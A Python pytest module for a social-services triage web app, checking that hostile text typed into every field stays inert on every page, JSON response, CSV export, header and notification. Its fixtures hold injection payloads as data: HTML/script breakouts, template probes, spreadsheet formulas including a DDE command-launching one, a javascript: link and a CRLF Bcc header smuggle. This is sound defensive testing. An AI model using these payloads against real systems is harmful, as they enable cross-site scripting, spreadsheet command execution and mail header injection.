"""Does a text stay a text, whatever somebody types, wherever it is shown, listed, printed or sent?

One request is written, handled and read with hostile words in every field that takes words, by
somebody whose colleagues and units have hostile names. Every route that can be read is then read,
as the application has them: a new page, list or table is tried without being named here.
"""

from __future__ import annotations

import asyncio
import csv
import json
import re
from collections.abc import AsyncIterator, Iterable, Iterator
from dataclasses import replace
from html import unescape
from html.parser import HTMLParser
from io import StringIO
from urllib.parse import quote

import httpx
import pytest
from fastapi.routing import APIRoute

from tests.clock import HandWoundClock
from tests.service import Service, make_service
from tests.web.asking import REQUESTS, SUBMISSION, VERB_BODIES, Json, id_of, opened, sent
from tests.web.browsing import browser, working
from triage.catalogue.packaged import packaged_lapland_text
from triage.notices.kinds import Kind
from triage.store.database.engine import write_lock
from triage.store.records import staff
from triage.store.records.catalogue_store import publish
from triage.text.visible import name_form
from workers.deliveries.wording import for_requester, for_staff

Told = tuple[str, httpx.Response]
MARKUP = """"'></textarea></title></style></script><x-evil onclick=1>&lt;b&gt;<!--"""
HOSTILE: dict[str, str] = {
    "markup": MARKUP,
    "template": "{{ 7*7 }}{% raw %}${7*7}#{7*7} {0.__class__} %s %(x)s",
    "formula": '=HYPERLINK("http://a.example/?"&A1,"x")',
    "plus": "+1+1",
    "minus": "-1+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)",
    "override": "\u202egpj.exe\u2066\u2067kuva",
    "unseen": "\u200bA\u200d\ufeffB\u00ad",
    "header": "Hei\r\nBcc: x@a.example\r\n\r\n<x-evil>",
    "lines": "yksi\u2028kaksi\u2029kolme\u0085neljä\x0bviisi",
    "address": "javascript:alert(1)//https://a.example",
    "rtl": "שלום עולם مرحبا",
    "emoji": "👩\u200d👩\u200d👧\u200d👦🏳️\u200d🌈🫨",
    "piled": "Z" + "\u0310\u0337\u0332" * 200,
    "unbroken": "x" * 1_900,
    "digits": "١٢٣ ⑨ ²",
}
# What nobody types and no store takes.
REFUSED = {"nul": "A\x00B", "half a sign": "\ud800"}
# What of a verb's body is words, and not a code.
WORDS = frozenset({"because", "text", "note", "summary", "what", "with_whom", "system", "purpose"})
# What takes the request out of the hands that go on.
ENDS = frozenset({"closing", "recusal", "release", "handover", "silence", "sorting"})
TURNS = "\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
LONGEST_LINE = 200
STAFF = ("aino", "onni", "kerttu", "leena", "ville", "elli", "sanna", "tiina", "antti")
# Who takes figures and logs to a spreadsheet.
MAKE_TABLES = ("sanna", "tiina")
FORMULA_SIGNS = ("=", "+", "-", "@", "\t", "\r", "\n")


class Markup(HTMLParser):
    """What of a page was made by somebody's words."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.made: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        acts = [name for name, _ in attrs if name.startswith("on")]
        leads = [to for name, to in attrs if name in ("href", "src", "action", "formaction") and to]
        wrong = [to for to in leads if to.strip().lower().startswith(("javascript:", "data:"))]
        if tag == "x-evil" or acts or wrong:
            self.made.append(f"<{tag} {attrs}>")

    def handle_comment(self, data: str) -> None:
        self.made.append(f"<!--{data}")


def line(text: str) -> str:
    return text[:LONGEST_LINE]


def hostile(body: Json, text: str) -> Json:
    return {name: text if name in WORDS else value for name, value in body.items()}


async def lived(service: Service, text: str) -> Json:
    """A request told in this text, with everything done to it that takes words."""
    receipt = await sent(
        service,
        message=text,
        has_worker=line(text),
        avoid=line(text),
        reply_by="phone",
        contact={
            "name": line(text),
            "phone": "040 123 4567",
            "safe_times": line(text),
            "must_not_know": line(text),
        },
        consents={"partners": ["parish"], "consult": True},
    )
    path = f"{REQUESTS}/{id_of(service, receipt)}"
    async with await service.as_staff("aino") as aino:
        await aino.post(f"{path}/claim", json={})
        for verb, body in VERB_BODIES.items():
            if verb not in ENDS:
                await aino.post(f"{path}/{verb}", json=hostile(body, text))
        await aino.put(f"{path}/draft", json={"text": text})
    async with await opened(service, receipt) as own:
        await own.post("/api/v1/my-request/messages", json={"text": text})
        await own.post("/api/v1/my-request/data-requests", json={"kind": "copy", "text": text})
    async with service.client() as anybody:
        await anybody.post("/saavutettavuus", data={"text": text})
    return receipt


def named(service: Service) -> None:
    """Let a colleague and a unit be called so, as far as either may be."""
    text = "".join(HOSTILE[each] for each in ("formula", "override", "markup"))
    with write_lock(service.parts.database) as connection:
        account = staff.find(connection, "onni")
        assert account is not None
        staff.change(connection, replace(account, name=name_form(text)), None)
        toml = packaged_lapland_text().replace("lappi-2026", "lappi-vihamielinen", 1)
        for name in ("Neuvola", "Perhesosiaalityö", "Rovaniemi", "Raha ja toimeentulo"):
            toml = toml.replace(f'"{name}"', json.dumps(text))
        publish(connection, toml, published_at=service.clock(), published_by="elli")


def readable(service: Service, *, of_one: bool) -> list[str]:
    """Paths of what can be read, of one request or of all; ticks never end."""
    return [
        route.path
        for route in service.app.routes
        if isinstance(route, APIRoute)
        and "GET" in (route.methods or ())
        and ("{request_id}" in route.path) is of_one
        and not route.path.endswith(("tikit", "ticks"))
    ]


def filled(path: str, request_id: str) -> str:
    """The address; whatever else it names is hostile too."""
    path = path.replace("{request_id}", request_id).replace("{verb}", "note")
    return re.sub(r"\{\w+\}", quote(MARKUP, safe=""), path)


async def read_by(service: Service, username: str, ids: Iterable[str]) -> AsyncIterator[Told]:
    """What somebody gets who reads everything: pages, JSON and tables."""
    pages = (await working(service, username)).client
    async with await service.as_staff(username) as caller:
        for of_one, asked in ((False, [""]), (True, ids)):
            for path in readable(service, of_one=of_one):
                asking = caller if path.startswith("/api/") else pages
                for request_id in asked:
                    address = filled(path, request_id)
                    yield path, await asking.get(address, params={"by": "municipality"})
                    if username in MAKE_TABLES and not of_one:
                        table = {"Accept": "text/csv"}
                        yield path, await asking.get(address, headers=table)


async def read_by_requester(service: Service, receipt: Json) -> AsyncIterator[Told]:
    visitor = browser(service)
    await visitor.go("/vastaus")
    yield "/vastaus", await visitor.send("/vastaus", receipt=receipt["receipt"])
    async with await opened(service, receipt) as own:
        yield "/api/v1/my-request", await own.get("/api/v1/my-request")


async def everything(service: Service) -> list[Told]:
    named(service)
    receipts = [await lived(service, text) for text in HOSTILE.values()]
    ids = [id_of(service, receipt) for receipt in receipts]
    found: list[Told] = []
    for username in STAFF:
        reads = ids if username in ("aino", "tiina") else ids[:1]
        found += [told async for told in read_by(service, username, reads)]
    for receipt in receipts:
        found += [told async for told in read_by_requester(service, receipt)]
    return found


@pytest.fixture(scope="module")
def told(tmp_path_factory: pytest.TempPathFactory) -> Iterator[list[Told]]:
    with make_service(tmp_path_factory.mktemp("hostile"), HandWoundClock()) as service:
        yield asyncio.run(everything(service))


def of_type(told: list[Told], kind: str) -> list[Told]:
    found = [each for each in told if kind in each[1].headers.get("content-type", "")]
    assert found
    return found


def test_nothing_breaks(told: list[Told]) -> None:
    assert [(path, each.status_code) for path, each in told if each.status_code >= 500] == []


@pytest.mark.parametrize("name", HOSTILE)
def test_each_text_reaches_who_reads_it(told: list[Told], name: str) -> None:
    text = HOSTILE[name].strip()
    pages = [unescape(each.text) for path, each in told if path == "/jono/{request_id}"]
    assert any(" ".join(text.split()) in " ".join(page.split()) for page in pages)


def test_no_page_takes_a_text_for_markup(told: list[Told]) -> None:
    assert [
        (path, made) for path, each in of_type(told, "html") if (made := Markup(each.text).made)
    ] == []


def test_no_answer_is_anything_but_what_it_says(told: list[Told]) -> None:
    for _, each in of_type(told, "json"):
        each.json()


def test_no_header_carries_a_word_of_anybodys(told: list[Told]) -> None:
    for path, each in told:
        for name, value in each.headers.items():
            assert "x-evil" not in value and "a.example" not in value, (path, name)
            assert not set(value) & set("\r\n\0"), (path, name)


def test_no_cell_of_a_table_is_a_formula(told: list[Told]) -> None:
    for path, each in of_type(told, "csv"):
        cells = [cell for row in csv.reader(StringIO(each.text)) for cell in row]
        wrong = [cell for cell in cells if cell.startswith(FORMULA_SIGNS)]
        assert wrong == [], path


@pytest.mark.parametrize("kind", Kind)
@pytest.mark.parametrize("language", ["fi", "ar"])
def test_no_letter_carries_a_word_of_anybodys(kind: Kind, language: str) -> None:
    words = (
        for_requester(language, ["fi", "ar"])
        if kind is Kind.SOMETHING_NEW
        else for_staff(kind, language, "https://apua.example")
    )
    assert words.subject.isprintable()
    assert "\n" not in words.text
    assert "{" not in words.subject + words.text


@pytest.mark.parametrize("text", REFUSED.values(), ids=REFUSED)
@pytest.mark.parametrize("name", ["message", "has_worker", "avoid"])
async def test_what_no_store_takes_is_refused(service: Service, name: str, text: str) -> None:
    body = json.dumps({**SUBMISSION, name: text}).encode()
    headers = {"Content-Type": "application/json"}
    async with service.client() as anybody:
        answer = await anybody.post(REQUESTS, content=body, headers=headers)
    assert answer.status_code in (400, 422)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_a_name_is_one_line_that_turns_nothing_around(text: str) -> None:
    formed = name_form(text)
    assert formed.splitlines() in ([formed], [])
    assert name_form(formed) == formed
    assert not set(formed) & set(
        "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f"
    )
